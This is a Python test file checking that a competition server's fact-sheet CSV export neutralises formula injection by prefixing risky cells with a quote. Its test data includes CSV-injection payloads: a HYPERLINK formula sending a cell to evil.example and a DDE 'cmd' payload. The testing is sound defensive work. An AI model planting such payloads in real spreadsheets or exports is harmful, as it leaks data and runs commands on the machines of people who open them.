"""The fact-sheet CSV export is spreadsheet-safe (issue 33.9, OWASP "CSV injection"): an answer
a spreadsheet would evaluate (= + - @, tab, CR first) comes out behind a single quote, and the
rest of the export is unchanged."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from test_factsheets import phase_with_factsheet

from server.models import Phase
from server.services.factsheets import export_csv

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,1)"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_in_an_answer_is_exported_as_text(env, attack):
    phase_id = phase_with_factsheet(env)
    _, ann = env.user("ann")
    organizer_user, organizer = env.user("olga", role="organizer")
    with env.db.session() as s:
        s.get(Phase, phase_id).competition.owner_id = organizer_user.id
    env.submit(phase_id, ann)
    url = f"/api/v1/phases/{phase_id}/factsheet"
    saved = env.client.put(url, headers=ann, json={"answers": {"approach": attack,
                                                               "gpus": -1}})
    assert saved.status_code == 200, saved.text
    text = env.client.get(f"{url}/answers", headers=organizer, params={"format": "csv"}).text
    header, row = list(csv.reader(io.StringIO(text, newline="")))[:2]
    cells = dict(zip(header, row, strict=True))
    stored = saved.json()["answers"]["approach"]
    assert cells["approach"] == "'" + stored
    assert cells["gpus"] == "-1.0"  # a number stays a number
    assert cells["username"] == "ann"


def test_every_text_cell_of_the_export_is_neutralized_tab_and_cr_too():
    data = {"questions": [{"key": "=q"}, {"key": "approach"}],
            "answers": [{"username": "-ann", "user_id": 1, "updated_at": datetime(2030, 1, 1),
                         "answers": {"=q": "\tx", "approach": "\r=1+1"}}],
            "missing": [{"username": "@bob", "user_id": 2}]}
    rows = list(csv.reader(io.StringIO(export_csv(data), newline="")))
    assert rows[0][-2:] == ["'=q", "approach"]
    assert rows[1][0] == "'-ann" and rows[1][-2:] == ["'\tx", "'\r=1+1"]
    assert rows[2][0] == "'@bob"
